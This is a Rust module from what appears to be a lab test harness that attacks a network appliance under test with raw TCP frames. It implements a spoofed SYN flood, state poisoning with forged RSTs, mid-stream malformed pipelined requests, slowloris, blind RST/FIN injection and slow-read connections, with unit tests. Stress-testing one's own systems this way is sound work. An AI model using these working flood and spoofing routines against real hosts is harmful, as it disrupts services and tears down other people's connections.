//! The attacker of the `attacks` experiment (issue 24): spoofed and hostile traffic sent while
//! an arm's browsers run, as raw Ethernet frames ([`crate::raw`]) out of the WAN hop's port
//! toward the appliance (`wan-a`): on the clients' side of rlm, as an attacker on the Internet
//! is, but past the WAN emulator, whose userspace queue would otherwise be the first thing a
//! flood exhausts (and with it the browsers' own path). Every frame carries the clients'
//! interface's link address as its source, so that the appliance's bridge learns nothing new,
//! and goes to the farm's link address.
//!
//! The kinds ([`AttackKind`]): a SYN flood from random sources outside the lab's ranges, spoofed
//! SYNs from HIGH's addresses with forged refusals (poisoning RT.HIGH), connections joined
//! mid-stream pipelining requests with 30 KiB targets that are not UTF-8, slowloris heads, and
//! blind RSTs and FINs on HIGH's live connections. Frames are built by the workspace's one TCP
//! frame builder (`rlm_core::testkit::tcp_frame`, etherparse), given the lab's link addresses. The attacker runs in a thread of the lab's
//! runner from the end of the browsers' ramp to the end of the run, and reports what it sent
//! ([`AttackOutcome`]): the experiment's regime check reads that, not rlm.

use std::net::{Ipv4Addr, SocketAddrV4};
use std::time::{Duration, Instant};

use anyhow::Result;
use rand::rngs::SmallRng;
use rand::{Rng, SeedableRng};
use serde::Serialize;

use rlm_core::testkit::{ACK, FIN, PSH, RST, SYN};

use crate::raw::{mac_of, RawSender};
use crate::topology::{Info, FARM_ADDR};

/// What the attacker sends.
#[derive(Clone, Copy, Debug, PartialEq, Eq, Serialize)]
#[serde(rename_all = "kebab-case")]
pub enum AttackKind {
    /// SYNs from random sources in 198.18.0.0/15 (the benchmarking range, outside the lab's
    /// 10/8), random ports and sequence numbers, to the farm's port 80, as fast as one thread
    /// sends them.
    SynFlood,
    /// SYNs from HIGH's addresses (every other one a browsing client's own, the rest unused
    /// 10.4/16 addresses), one in four followed by a forged refusal (a RST acknowledging it, "from
    /// the farm", sent in from the clients' side).
    Poison,
    /// Connections rlm never saw open (no handshake), to an address on the farm's segment that
    /// nobody answers, each pipelining [`MIDSTREAM_REQUESTS`] requests whose targets are
    /// [`MIDSTREAM_TARGET`] bytes that are not UTF-8.
    Midstream,
    /// Connections joined mid-stream to the same silent address, each sending a request head of
    /// [`SLOWLORIS_HEAD`] bytes that never ends, [`SLOWLORIS_PIECE`] bytes at a time.
    Slowloris,
    /// RSTs and FINs at random sequence numbers on the tuples of HIGH's established connections
    /// (read with `ss` in the clients' namespace each second), in turn from the client's address
    /// and from the farm's.
    RstFin,
    /// Real connections to the farm from [`SLOW_READ_ADDR`] (added to the clients' interface),
    /// each with a receive buffer of [`SLOW_READ_RCVBUF`] bytes, asking for a 256 KB cover and
    /// reading [`SLOW_READ_BYTES_PER_S`] bytes of it a second; one the farm closes is opened
    /// again.
    SlowRead,
}

/// An attack of an arm.
#[derive(Clone, Debug, Serialize)]
pub struct Attack {
    pub kind: AttackKind,
    /// Frames a second to send (0: as fast as one thread sends).
    pub rate_per_s: f64,
    /// SYNs to send in all (poison; 0: as many as the run allows).
    pub count: u64,
    /// Connections (midstream and slowloris).
    pub connections: u32,
}

/// What the attacker did.
#[derive(Clone, Debug, Default, Serialize)]
pub struct AttackOutcome {
    pub kind: Option<AttackKind>,
    /// When it started and stopped (Unix seconds), and the seconds between.
    pub start_unix_s: f64,
    pub end_unix_s: f64,
    pub seconds: f64,
    /// The seconds it was meant to run (the arm's run after the browsers' ramp).
    pub planned_seconds: f64,
    pub frames_sent: u64,
    /// Frames the socket refused.
    pub frames_failed: u64,
    /// Frames sent a second.
    pub rate_per_s: f64,
    /// The frames it takes to say the attack happened as intended: the count asked for, or the
    /// rate asked for (a top-rate flood: [`MIN_FLOOD_RATE`]) over the planned seconds.
    pub planned_frames: u64,
    /// Of the frames sent, the SYNs (syn-flood, poison).
    pub syns_sent: u64,
    /// Connections it used (midstream, slowloris), or HIGH's live connections it aimed at
    /// (rst-fin: distinct tuples seen).
    pub connections: u64,
}

/// The least rate (SYNs a second) at which a flood counts as one on this machine.
pub const MIN_FLOOD_RATE: f64 = 20_000.0;
/// Requests each mid-stream connection pipelines, and the length of their targets.
pub const MIDSTREAM_REQUESTS: usize = 64;
pub const MIDSTREAM_TARGET: usize = 30 * 1024;
/// A slowloris head's length and the bytes sent of it at a time.
pub const SLOWLORIS_HEAD: usize = 7 * 1024;
pub const SLOWLORIS_PIECE: usize = 256;
/// The address the mid-stream and slowloris connections go to: on the farm's segment, owned by
/// nobody, so that nothing answers them and what rlm holds is the attacker's alone.
pub const SILENT_ADDR: Ipv4Addr = Ipv4Addr::new(10, 9, 0, 99);
/// The slow readers' address (outside the browsers' groups: the WAN passes it undelayed), their
/// receive buffer and how fast each reads.
pub const SLOW_READ_ADDR: Ipv4Addr = Ipv4Addr::new(10, 8, 255, 1);
pub const SLOW_READ_RCVBUF: usize = 4096;
pub const SLOW_READ_BYTES_PER_S: usize = 100;
/// The payload of a mid-stream segment: at most this many bytes.
const SEGMENT: usize = 1400;

/// The link addresses the attacker's frames carry: the clients' interface's, to the farm's.
#[derive(Clone, Copy, Debug)]
pub struct Wire {
    pub client_mac: [u8; 6],
    pub farm_mac: [u8; 6],
}

impl Wire {
    /// A TCP frame (the workspace's one builder, [`rlm_core::testkit::tcp_frame`]) from the
    /// clients' link address to the farm's, whatever its IP addresses say.
    fn frame(self, src: SocketAddrV4, dst: SocketAddrV4, seq: u32, ack: u32, flags: u8, payload: &[u8]) -> Vec<u8> {
        let mut f = rlm_core::testkit::tcp_frame(rlm_core::wire::LinkType::Ethernet, src.into(), dst.into(), seq, ack, flags, payload);
        f[0..6].copy_from_slice(&self.farm_mac);
        f[6..12].copy_from_slice(&self.client_mac);
        f
    }
}

fn farm() -> Ipv4Addr {
    FARM_ADDR.parse().expect("the farm's address")
}

/// A SYN from a random source of 198.18.0.0/15 to the farm's port 80.
pub fn flood_syn(w: Wire, rng: &mut impl Rng) -> Vec<u8> {
    let src = Ipv4Addr::new(198, 18 + rng.random_range(0..2u8), rng.random(), rng.random_range(1..255u8));
    let sport = rng.random_range(1024..=u16::MAX);
    w.frame(SocketAddrV4::new(src, sport), SocketAddrV4::new(farm(), 80), rng.random(), 0, SYN, b"")
}

/// The `i`-th poisoning SYN: from one of `browsing` (HIGH's browsers) for even `i`, else from an
/// unused HIGH address (10.4.200.0 to 10.4.250.255); for `i` a multiple of 4, followed by its
/// forged refusal: a RST+ACK from the farm's port 80 acknowledging the SYN, sent in on the
/// clients' side.
pub fn poison_frames(w: Wire, i: u64, rng: &mut impl Rng, browsing: &[Ipv4Addr]) -> Vec<Vec<u8>> {
    let src = if i.is_multiple_of(2) && !browsing.is_empty() {
        browsing[rng.random_range(0..browsing.len())]
    } else {
        Ipv4Addr::new(10, 4, rng.random_range(200..=250u8), rng.random_range(1..255u8))
    };
    let client = SocketAddrV4::new(src, rng.random_range(1024..=u16::MAX));
    let server = SocketAddrV4::new(farm(), 80);
    let isn: u32 = rng.random();
    let mut out = vec![w.frame(client, server, isn, 0, SYN, b"")];
    if i.is_multiple_of(4) {
        out.push(w.frame(server, client, 0, isn.wrapping_add(1), RST | ACK, b""));
    }
    out
}

/// The byte stream each mid-stream connection sends: [`MIDSTREAM_REQUESTS`] requests whose
/// targets are `/` and [`MIDSTREAM_TARGET`] bytes of 0x80 to 0xFF (never UTF-8).
pub fn midstream_stream() -> Vec<u8> {
    let target: Vec<u8> = (0..MIDSTREAM_TARGET).map(|k| 0x80 + (k % 128) as u8).collect();
    let mut one = b"GET /".to_vec();
    one.extend_from_slice(&target);
    one.extend_from_slice(b" HTTP/1.1\r\nHost: shop\r\n\r\n");
    one.repeat(MIDSTREAM_REQUESTS)
}

/// The `n`-th connection's client end (round `round` of them): 10.8.0.0/16, ports turning with
/// the round so that each round is new connections.
fn attacker_end(n: u64, round: u64) -> SocketAddrV4 {
    let host = Ipv4Addr::new(10, 8, (n / 250 % 250) as u8, (n % 250 + 1) as u8);
    SocketAddrV4::new(host, 1024 + ((round * 7919 + n / 62_500) % 60_000) as u16)
}

/// Segment `k` of a mid-stream (or slowloris) connection's stream `stream`, cut in `piece`
/// bytes, with the ACK flag and a made-up acknowledgement: None past the stream's end.
pub fn stream_segment(w: Wire, end: SocketAddrV4, stream: &[u8], piece: usize, k: usize) -> Option<Vec<u8>> {
    let at = k * piece;
    let bytes = stream.get(at..(at + piece).min(stream.len())).filter(|b| !b.is_empty())?;
    let isn = 0x1000_0000u32;
    Some(w.frame(end, SocketAddrV4::new(SILENT_ADDR, 80), isn.wrapping_add(at as u32), 0x2000_0000, PSH | ACK, bytes))
}

/// A slowloris head: a request line and header lines of [`SLOWLORIS_HEAD`] bytes in all, with
/// no blank line to end them.
pub fn slowloris_head() -> Vec<u8> {
    let mut h = b"GET / HTTP/1.1\r\nHost: shop\r\n".to_vec();
    let mut k = 0;
    while h.len() < SLOWLORIS_HEAD {
        h.extend_from_slice(format!("X-Pad-{k}: {}\r\n", "a".repeat(40)).as_bytes());
        k += 1;
    }
    h.truncate(SLOWLORIS_HEAD);
    h
}

/// A blind RST or FIN (by `i`: client RST, client FIN, farm RST, farm FIN) at a random sequence
/// and acknowledgement number on the connection `client` - farm:80.
pub fn blind_frame(w: Wire, i: u64, client: SocketAddrV4, rng: &mut impl Rng) -> Vec<u8> {
    let server = SocketAddrV4::new(farm(), 80);
    let (src, dst) = if i % 4 < 2 { (client, server) } else { (server, client) };
    let flags = if i.is_multiple_of(2) { RST } else { FIN | ACK };
    w.frame(src, dst, rng.random(), rng.random(), flags, b"")
}

/// HIGH's established connections to the farm, as `ss -Htn state established` prints them in
/// the clients' namespace: the client ends in 10.4/16.
pub fn high_tuples(ss: &str) -> Vec<SocketAddrV4> {
    let farm = format!("{FARM_ADDR}:80");
    ss.lines()
        .filter_map(|l| {
            let f: Vec<&str> = l.split_whitespace().collect();
            // Recv-Q Send-Q Local Peer (with a state filter there is no State column).
            let (local, peer) = (f.get(f.len().checked_sub(2)?)?, f.last()?);
            let local: SocketAddrV4 = local.parse().ok()?;
            (*peer == farm && local.ip().octets()[..2] == [10, 4]).then_some(local)
        })
        .collect()
}

/// Start the attack in a thread: it waits `ramp_s`, then sends until `duration_s` after the
/// call.
pub fn start(attack: Attack, info: &Info, ramp_s: f64, duration_s: f64) -> std::thread::JoinHandle<Result<AttackOutcome>> {
    let info = info.clone();
    let t0 = Instant::now();
    std::thread::spawn(move || {
        if attack.kind == AttackKind::SlowRead {
            crate::netns::enter(&info.namespaces.clients)?;
            crate::topology::in_ns(&info.namespaces.clients, "ip", &["addr", "add", &format!("{SLOW_READ_ADDR}/8"), "dev", &info.clients.interface])?;
            std::thread::sleep(Duration::from_secs_f64(ramp_s));
            return slow_read(&attack, t0 + Duration::from_secs_f64(duration_s), (duration_s - ramp_s).max(0.0));
        }
        let wire =
            Wire { client_mac: mac_of(&info.namespaces.clients, &info.clients.interface)?, farm_mac: mac_of(&info.namespaces.servers, "srv0")? };
        let browsing: Vec<Ipv4Addr> = info.clients.high.iter().filter_map(|a| a.parse().ok()).collect();
        let out = RawSender::new(&info.wan.namespace, &info.wan.appliance_port)?;
        std::thread::sleep(Duration::from_secs_f64(ramp_s));
        let until = t0 + Duration::from_secs_f64(duration_s);
        let planned_seconds = (duration_s - ramp_s).max(0.0);
        run(&attack, wire, &browsing, &out, until, planned_seconds, &info.namespaces.clients)
    })
}

/// The request of the `n`-th slow reader: one of the site's 256 KB covers.
pub fn slow_read_request(n: u64) -> String {
    format!("GET {} HTTP/1.1\r\nHost: shop\r\n\r\n", crate::farm::site::large_url(n as i64))
}

/// A slow reader's connection: opened from [`SLOW_READ_ADDR`] with a small receive buffer, its
/// request sent, non-blocking.
fn slow_reader(n: u64) -> Result<std::net::TcpStream> {
    use std::io::Write;
    let s = socket2::Socket::new(socket2::Domain::IPV4, socket2::Type::STREAM, None)?;
    s.set_recv_buffer_size(SLOW_READ_RCVBUF)?;
    s.bind(&SocketAddrV4::new(SLOW_READ_ADDR, 0).into())?;
    s.connect_timeout(&SocketAddrV4::new(farm(), 80).into(), Duration::from_secs(3))?;
    let mut s: std::net::TcpStream = s.into();
    s.write_all(slow_read_request(n).as_bytes())?;
    s.set_nonblocking(true)?;
    Ok(s)
}

/// Keep `a.connections` slow readers open until `until`, each reading
/// [`SLOW_READ_BYTES_PER_S`] a second (a tenth every 100 ms). Frames here are requests sent.
fn slow_read(a: &Attack, until: Instant, planned_seconds: f64) -> Result<AttackOutcome> {
    use std::io::Read;
    let mut o = AttackOutcome { kind: Some(a.kind), start_unix_s: unix_now(), planned_seconds, ..AttackOutcome::default() };
    let started = Instant::now();
    let mut readers: Vec<Option<std::net::TcpStream>> = (0..a.connections).map(|_| None).collect();
    let mut opened = 0u64;
    let mut buf = [0u8; SLOW_READ_BYTES_PER_S / 10];
    while Instant::now() < until {
        let tick = Instant::now() + Duration::from_millis(100);
        for r in readers.iter_mut() {
            if r.is_none() {
                match slow_reader(opened) {
                    Ok(s) => {
                        *r = Some(s);
                        o.frames_sent += 1;
                    }
                    Err(_) => o.frames_failed += 1,
                }
                opened += 1;
            }
            if let Some(s) = r {
                match s.read(&mut buf) {
                    Ok(0) => *r = None,
                    Ok(_) => {}
                    Err(e) if e.kind() == std::io::ErrorKind::WouldBlock => {}
                    Err(_) => *r = None,
                }
            }
            if Instant::now() >= until {
                break;
            }
        }
        std::thread::sleep(tick.saturating_duration_since(Instant::now()));
    }
    o.connections = opened;
    o.end_unix_s = unix_now();
    o.seconds = started.elapsed().as_secs_f64();
    o.rate_per_s = o.frames_sent as f64 / o.seconds.max(1e-9);
    o.planned_frames = u64::from(a.connections);
    Ok(o)
}

fn unix_now() -> f64 {
    std::time::SystemTime::now().duration_since(std::time::UNIX_EPOCH).map_or(0.0, |d| d.as_secs_f64())
}

/// Send the attack's frames out of `out` until `until`.
fn run(a: &Attack, w: Wire, browsing: &[Ipv4Addr], out: &RawSender, until: Instant, planned_seconds: f64, clients_ns: &str) -> Result<AttackOutcome> {
    let mut rng = SmallRng::seed_from_u64(24);
    let mut o = AttackOutcome { kind: Some(a.kind), start_unix_s: unix_now(), planned_seconds, ..AttackOutcome::default() };
    let started = Instant::now();
    // Frames are paced at the rate asked for (checked every 64 frames); the count ends it early.
    let send = |o: &mut AttackOutcome, frames: &[Vec<u8>]| {
        for f in frames {
            if out.send(f) {
                o.frames_sent += 1;
            } else {
                o.frames_failed += 1;
            }
        }
    };
    let pace = |sent: u64| {
        if a.rate_per_s > 0.0 && sent.is_multiple_of(64) {
            let due = started + Duration::from_secs_f64(sent as f64 / a.rate_per_s);
            let now = Instant::now();
            if due > now {
                std::thread::sleep(due - now);
            }
        }
        Instant::now() < until
    };
    match a.kind {
        AttackKind::SynFlood => {
            while pace(o.frames_sent + o.frames_failed) {
                for _ in 0..64 {
                    let f = flood_syn(w, &mut rng);
                    send(&mut o, &[f]);
                    o.syns_sent += 1;
                }
            }
        }
        AttackKind::Poison => {
            let mut i = 0;
            while i < a.count && pace(o.frames_sent + o.frames_failed) {
                for _ in 0..64.min(a.count - i) {
                    send(&mut o, &poison_frames(w, i, &mut rng, browsing));
                    i += 1;
                }
            }
            o.syns_sent = i;
        }
        AttackKind::Midstream | AttackKind::Slowloris => {
            let (stream, piece) = match a.kind {
                AttackKind::Midstream => (midstream_stream(), SEGMENT),
                _ => (slowloris_head(), SLOWLORIS_PIECE),
            };
            let conns = u64::from(a.connections);
            // Round after round of new connections; within one, a segment of each in turn, so
            // that every connection of the round is open at once.
            'rounds: for round in 0.. {
                for k in 0.. {
                    let mut any = false;
                    for n in 0..conns {
                        let Some(f) = stream_segment(w, attacker_end(n, round), &stream, piece, k) else { break };
                        any = true;
                        send(&mut o, &[f]);
                        if !pace(o.frames_sent + o.frames_failed) {
                            break 'rounds;
                        }
                    }
                    if !any {
                        break;
                    }
                }
                o.connections += conns;
            }
        }
        AttackKind::RstFin => {
            let mut tuples: Vec<SocketAddrV4> = Vec::new();
            let mut seen = std::collections::HashSet::new();
            let mut read_at = Instant::now();
            let mut i = 0u64;
            while pace(o.frames_sent + o.frames_failed) {
                if Instant::now() >= read_at {
                    let ss = crate::topology::in_ns(clients_ns, "ss", &["-Htn", "state", "established"]).unwrap_or_default();
                    tuples = high_tuples(&ss);
                    seen.extend(tuples.iter().copied());
                    read_at = Instant::now() + Duration::from_secs(1);
                }
                if tuples.is_empty() {
                    std::thread::sleep(Duration::from_millis(50));
                    continue;
                }
                for _ in 0..64 {
                    let t = tuples[rng.random_range(0..tuples.len())];
                    send(&mut o, &[blind_frame(w, i, t, &mut rng)]);
                    i += 1;
                }
            }
            o.connections = seen.len() as u64;
        }
        AttackKind::SlowRead => unreachable!("slow-read sends no raw frames"),
    }
    o.end_unix_s = unix_now();
    o.seconds = started.elapsed().as_secs_f64();
    o.rate_per_s = o.frames_sent as f64 / o.seconds.max(1e-9);
    o.planned_frames = match a.kind {
        AttackKind::Poison => a.count + a.count.div_ceil(4),
        AttackKind::SynFlood => (MIN_FLOOD_RATE * planned_seconds) as u64,
        _ => (a.rate_per_s * planned_seconds) as u64,
    };
    Ok(o)
}

#[cfg(test)]
mod tests {
    use super::*;
    use etherparse::{NetSlice, SlicedPacket, TransportSlice};

    const W: Wire = Wire { client_mac: [2, 0, 0, 0, 0, 1], farm_mac: [2, 0, 0, 0, 0, 2] };

    /// (source, destination, flags as SYN/ACK/RST/FIN, sequence, acknowledgement, payload) of a
    /// frame, with its TCP checksum checked.
    fn parse(f: &[u8]) -> (SocketAddrV4, SocketAddrV4, [bool; 4], u32, u32, Vec<u8>) {
        let p = SlicedPacket::from_ethernet(f).unwrap();
        let Some(etherparse::LinkSlice::Ethernet2(eth)) = &p.link else { panic!("not Ethernet II") };
        assert_eq!((eth.source(), eth.destination()), (W.client_mac, W.farm_mac), "every frame goes from the clients' side to the farm");
        let Some(NetSlice::Ipv4(ip)) = &p.net else { panic!("not IPv4") };
        let Some(TransportSlice::Tcp(t)) = &p.transport else { panic!("not TCP") };
        assert_eq!(t.to_header().calc_checksum_ipv4(&ip.header().to_header(), t.payload()).unwrap(), t.checksum());
        let h = ip.header();
        (
            SocketAddrV4::new(h.source_addr(), t.source_port()),
            SocketAddrV4::new(h.destination_addr(), t.destination_port()),
            [t.syn(), t.ack(), t.rst(), t.fin()],
            t.sequence_number(),
            t.acknowledgment_number(),
            t.payload().to_vec(),
        )
    }

    #[test]
    fn flood_syns_come_from_outside_the_lab() {
        let mut rng = SmallRng::seed_from_u64(1);
        let mut sources = std::collections::HashSet::new();
        for _ in 0..1000 {
            let (src, dst, flags, ..) = parse(&flood_syn(W, &mut rng));
            assert_eq!(flags, [true, false, false, false]);
            assert_eq!(dst, "10.9.0.1:80".parse().unwrap());
            assert!(matches!(src.ip().octets(), [198, 18 | 19, _, _]), "{src}");
            sources.insert(*src.ip());
        }
        assert!(sources.len() > 990, "random sources: {}", sources.len());
    }

    #[test]
    fn poison_syns_from_high_with_forged_refusals() {
        let mut rng = SmallRng::seed_from_u64(1);
        let browsing = [Ipv4Addr::new(10, 4, 0, 1), Ipv4Addr::new(10, 4, 0, 2)];
        let (mut own, mut unused, mut refusals) = (0, 0, 0);
        for i in 0..400 {
            let frames = poison_frames(W, i, &mut rng, &browsing);
            assert_eq!(frames.len(), if i % 4 == 0 { 2 } else { 1 });
            let (src, dst, flags, isn, ..) = parse(&frames[0]);
            assert_eq!((dst, flags), ("10.9.0.1:80".parse().unwrap(), [true, false, false, false]));
            let o = src.ip().octets();
            assert_eq!(o[..2], [10, 4], "from HIGH: {src}");
            if browsing.contains(src.ip()) {
                own += 1;
            } else {
                assert!((200..=250).contains(&o[2]), "{src}");
                unused += 1;
            }
            if let Some(rst) = frames.get(1) {
                // The refusal: the farm's port to the SYN's, acknowledging it.
                let (rsrc, rdst, rflags, _, ack, _) = parse(rst);
                assert_eq!((rsrc, rdst, rflags, ack), (dst, src, [false, true, true, false], isn.wrapping_add(1)));
                refusals += 1;
            }
        }
        assert_eq!((own, unused, refusals), (200, 200, 100));
    }

    #[test]
    fn midstream_segments_carry_the_pipelined_requests_in_order() {
        let stream = midstream_stream();
        assert!(std::str::from_utf8(&stream).is_err(), "the targets are not UTF-8");
        assert_eq!(stream.windows(16).filter(|w| *w == b" HTTP/1.1\r\nHost:").count(), MIDSTREAM_REQUESTS);
        let end = attacker_end(3, 0);
        let mut got = Vec::new();
        let mut k = 0;
        while let Some(f) = stream_segment(W, end, &stream, SEGMENT, k) {
            let (src, dst, flags, seq, _, payload) = parse(&f);
            assert_eq!((src, dst), (end, SocketAddrV4::new(SILENT_ADDR, 80)));
            assert_eq!(flags, [false, true, false, false], "no handshake: data with an ACK");
            assert_eq!(seq, 0x1000_0000 + got.len() as u32, "segments in order");
            assert!(payload.len() <= SEGMENT);
            got.extend(payload);
            k += 1;
        }
        assert_eq!(got, stream);
        assert_ne!(attacker_end(3, 0), attacker_end(3, 1), "each round is new connections");
        assert_ne!(attacker_end(3, 0), attacker_end(4, 0));
    }

    #[test]
    fn a_slowloris_head_never_ends() {
        let h = slowloris_head();
        assert_eq!(h.len(), SLOWLORIS_HEAD);
        assert!(h.starts_with(b"GET / HTTP/1.1\r\n"));
        assert!(!h.windows(4).any(|w| w == b"\r\n\r\n"), "no blank line ends it");
        assert_eq!(SLOWLORIS_HEAD.div_ceil(SLOWLORIS_PIECE), 28);
    }

    #[test]
    fn slow_readers_ask_for_a_cover() {
        let r = slow_read_request(7);
        assert!(r.starts_with("GET /img/large/") && r.ends_with(" HTTP/1.1\r\nHost: shop\r\n\r\n"), "{r}");
        assert_ne!(slow_read_request(1), slow_read_request(2));
        assert_eq!(SLOW_READ_ADDR.octets()[..2], [10, 8], "outside the browsers' groups");
    }

    #[test]
    fn blind_frames_from_both_ends_on_high_tuples() {
        let ss = "0      0      10.4.0.7:41000   10.9.0.1:80\n0 0 10.5.0.3:41001 10.9.0.1:80\n0 0 10.4.0.8:41002 10.9.0.1:8081\n\
                  0 0 10.4.0.9:41003 10.9.0.1:80\n";
        let tuples = high_tuples(ss);
        assert_eq!(tuples, vec!["10.4.0.7:41000".parse().unwrap(), "10.4.0.9:41003".parse().unwrap()]);
        let mut rng = SmallRng::seed_from_u64(1);
        let farm: SocketAddrV4 = "10.9.0.1:80".parse().unwrap();
        let kinds: Vec<_> = (0..4)
            .map(|i| {
                let (src, dst, flags, ..) = parse(&blind_frame(W, i, tuples[0], &mut rng));
                (src == tuples[0] && dst == farm, src == farm && dst == tuples[0], flags)
            })
            .collect();
        assert_eq!(
            kinds,
            vec![
                (true, false, [false, false, true, false]),
                (true, false, [false, true, false, true]),
                (false, true, [false, false, true, false]),
                (false, true, [false, true, false, true]),
            ]
        );
    }
}
